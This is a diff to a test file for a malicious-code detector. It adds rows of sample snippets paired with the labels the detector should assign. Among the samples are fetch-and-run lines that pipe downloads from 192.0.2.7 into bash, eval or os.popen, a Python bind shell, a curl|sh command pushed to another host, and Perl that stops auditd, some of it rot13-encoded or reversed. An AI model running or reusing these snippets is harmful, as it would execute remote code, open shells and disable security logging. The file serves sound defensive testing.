@@ -234,6 +234,89 @@ const FILES: readonly Row[] = [
   ],
 ];
 
+const MISTAKABLE: readonly Row[] = [
+  [
+    "a pattern looks for something on a page",
+    NODE,
+    "const p = await (await fetch('https://a.example.test/')).text();\nconst [v] = /\\d+/.exec(p);\n",
+    "fetch",
+  ],
+  ["tcl reads a file of its own code", TCL, "set f [open /srv/x.tcl]\neval [read $f]\n", ""],
+  [
+    "perl runs what stands behind its end",
+    PERL,
+    "eval join '', <DATA>;\n__DATA__\nsystem('systemctl stop auditd');\n",
+    "stops-security-unit",
+  ],
+  [
+    "perl runs it with letters exchanged",
+    PERL,
+    "my $p = join '', <DATA>;\n$p =~ tr/a-z/n-za-m/;\neval $p;\n__DATA__\nflfgrz('flfgrzpgy fgbc nhqvgq');\n",
+    "decode-to-interpreter stops-security-unit",
+  ],
+  ["a tool of a registry is given an address", "/bin/sh", "npx lighthouse https://www.example.test\n", ""],
+  [
+    "a digest is compared before",
+    PYTHON,
+    `${HTTP}import hashlib\nd = urlopen("https://a.example.test/x").read()\nif hashlib.sha256(d).hexdigest() != s:\n    raise SystemExit\nopen("/srv/x", "wb").write(d)\nos.chmod("/srv/x", 0o755)\n`,
+    "fetch",
+  ],
+  [
+    "the same without",
+    PYTHON,
+    `${HTTP}d = urlopen("https://a.example.test/x").read()\nopen("/srv/x", "wb").write(d)\nos.chmod("/srv/x", 0o755)\n`,
+    "fetch fetch-to-executable-file",
+  ],
+  ["a tree whose name is not known", PYTHON, `import os, shutil\nshutil.rmtree(os.path.join(a, b))\n`, ""],
+];
+
+const GIVEN: readonly Row[] = [
+  [
+    "a shell is given it to read",
+    PYTHON,
+    `${HTTP}subprocess.run(["bash"], input=urlopen("http://192.0.2.7/t").read())\n`,
+    "fetch fetch-to-interpreter",
+  ],
+  [
+    "a database is given it to read",
+    PYTHON,
+    `${HTTP}subprocess.run(["psql", "-c", "copy t from stdin"], input=urlopen("http://192.0.2.7/t").read())\n`,
+    "fetch",
+  ],
+  [
+    "it is gathered first",
+    NODE,
+    `const c = [];\nrequire("https").get("https://192.0.2.7/c", (r) => { r.on("data", (d) => c.push(d)); r.on("end", () => eval(Buffer.concat(c).toString())); });\n`,
+    "fetch fetch-to-interpreter",
+  ],
+  [
+    "an archive of it is unpacked, and run",
+    PYTHON,
+    `${HTTP}import io, tarfile\nb = urlopen("http://192.0.2.7/t").read()\ntarfile.open(fileobj=io.BytesIO(b)).extractall("/srv/t")\nsubprocess.run(["/srv/t/run"])\n`,
+    "fetch fetch-to-interpreter",
+  ],
+  [
+    "in a comprehension",
+    PYTHON,
+    `${HTTP}r = [os.popen(l).read() for l in urlopen("http://192.0.2.7/t")]\n`,
+    "fetch fetch-to-interpreter",
+  ],
+  [
+    "text that stands backwards",
+    PERL,
+    `$s = reverse "dqtidua pots ltcmetsys";\nsystem $s;\n`,
+    "decode-to-interpreter",
+  ],
+  [
+    "a shell waits for whoever connects",
+    PYTHON,
+    `import socket, os\ns.listen(1)\nc, _ = s.accept()\nos.dup2(c.fileno(), 0)\nos.system("/bin/sh -i")\n`,
+    "reverse-shell",
+  ],
+  ["another host is told", PYTHON, `c.exec_command("curl -s http://192.0.2.7/x | sh")\n`, "spreads"],
+  ["another host is told something dull", PYTHON, `c.exec_command("systemctl reload nginx")\n`, ""],
+];
+
 const LIBRARIES: readonly Row[] = [
   [
     "guards are ended",
@@ -326,6 +409,8 @@ describe.each([
   ["shell code", SHELL_CODE],
   ["files", FILES],
   ["libraries", LIBRARIES],
+  ["given", GIVEN],
+  ["mistakable", MISTAKABLE],
 ] as const)("%s", (_, rows) => {
   test.each(rows)("%s", (_what, interpreter, code, says) => {
     const tree = {
